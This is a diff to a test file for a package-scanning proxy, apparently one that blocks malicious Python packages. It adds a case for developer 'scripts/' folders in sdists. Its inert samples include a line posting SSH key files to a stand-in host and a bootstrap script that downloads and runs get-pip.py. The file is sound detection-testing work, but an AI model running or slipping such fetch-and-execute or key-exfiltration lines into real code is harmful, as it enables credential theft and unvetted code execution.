@@ -6,7 +6,9 @@ imported or run from a temporary file; machine code copied into memory and start
 user's name spelled into a DNS look-up under the code's own domain; a mail account or bot
 signed in to with credentials written in; a CI token or a wallet's private key sent in a
 body; a key logger; credential files, the whole environment and the documents found
-walking the user's home sent from a function; a download run by ``mshta``.
+walking the user's home sent from a function; a download run by ``mshta``. And what an
+sdist keeps beside its package for its developers (``scripts/``) is not judged as code it
+installs.
 
 The "malicious" sources below are inert text handed to the scanner; nothing runs them.
 """
@@ -17,7 +19,7 @@ import pytest
 
 from pipgate.policies.scan import ScanPolicy
 from pipgate.proxy.scan import scan_archive
-from tests.support.archives import wheel
+from tests.support.archives import pkg_info, sdist, wheel
 
 POLICY = ScanPolicy()
 
@@ -440,3 +442,39 @@ def test_a_glob_over_the_ssh_folder_reads_keys() -> None:
         '        requests.post("https://keys.example.com", data=open(f).read())\n'
     )
     assert "credential-read" in rules
+
+
+BOOTSTRAP = """\
+import os, sys, tempfile
+from urllib.request import urlopen
+
+def main():
+    with tempfile.NamedTemporaryFile(suffix=".py") as script:
+        script.write(urlopen("https://bootstrap.pypa.io/get-pip.py").read())
+        script.flush()
+        os.system(f"{sys.executable} {script.name} --user")
+
+if __name__ == "__main__":
+    main()
+"""
+
+
+@pytest.mark.parametrize(
+    ("members", "held"),
+    [
+        # A developer's tool beside the package: nothing installs or imports it.
+        ({"scripts/internal/install_pip.py": BOOTSTRAP}, False),
+        # The same code inside the package the sdist installs.
+        ({"demo/install_pip.py": BOOTSTRAP}, True),
+        # A `scripts` folder that is itself a package is installed like any other.
+        ({"scripts/__init__.py": "", "scripts/install_pip.py": BOOTSTRAP}, True),
+    ],
+    ids=["developer folder", "package module", "package named scripts"],
+)
+def test_an_sdist_developer_folder_is_not_judged_as_installed_code(
+    members: dict[str, str], held: bool
+) -> None:
+
+    archive = sdist({"PKG-INFO": pkg_info(), "demo/__init__.py": "", **members})
+    report = scan_archive(archive, "demo-1.0.tar.gz")
+    assert (not POLICY.decide(report).allowed) is held, report.findings
